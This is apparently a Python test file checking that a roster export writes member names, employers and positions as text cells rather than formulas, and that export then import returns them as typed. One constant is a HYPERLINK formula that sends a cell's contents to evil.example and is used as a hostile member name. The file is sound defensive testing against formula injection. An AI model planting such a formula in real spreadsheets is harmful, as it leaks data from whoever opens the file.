"""Roster exports keep what members typed as text: never a formula in the officer's spreadsheet,
and read back by the roster import exactly as typed."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from saidao.accounts import selectors
from saidao.accounts.roster import roster_parse, roster_workbook
from saidao.accounts.tests.factories import MembershipFactory, UserFactory
from saidao.conftest import Tree

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"点我")'


def test_a_hostile_name_is_exported_as_text(tree: Tree) -> None:
    """A name, employer or position that looks like a formula is a text cell with those exact
    characters, not a formula."""
    user = UserFactory.create(real_name=LINK, employer="=1+1", position="@foo")
    MembershipFactory.create(organization=tree.anding, user=user)
    body = selectors.roster_export(officer=tree.city_officer, organization=tree.anding)
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    row = next(r for r in ws.iter_rows(min_row=2) if r[1].value == user.phone)
    assert [c.value for c in row[:4]] == [LINK, user.phone, "=1+1", "@foo"]
    assert all(c.data_type == "s" and not c.quotePrefix for c in row[:4])


def test_an_export_reads_back_as_typed(tree: Tree) -> None:
    """Export then import gives back names, employers and positions exactly as typed."""
    typed = [("=1+1", "-5℃冷库", "+86 139…"), ("@foo", "#N/A", "=A1*2"), ("张三", LINK, "'=x")]
    for name, employer, position in typed:
        user = UserFactory.create(real_name=name, employer=employer, position=position)
        MembershipFactory.create(organization=tree.anding, user=user)
    body = selectors.roster_export(officer=tree.city_officer, organization=tree.anding)
    parsed = roster_parse(io.BytesIO(body))
    assert parsed.errors == []
    got = {(r.real_name, r.employer, r.position) for r in parsed.rows}
    assert set(typed) <= got


def test_roster_workbook_writes_text_cells() -> None:
    """The workbook writer behind the export and the template writes text cells."""
    body = roster_workbook([["=1+1", "13812345678"]], header=("姓名", "手机号"))
    cell = load_workbook(io.BytesIO(body)).worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")
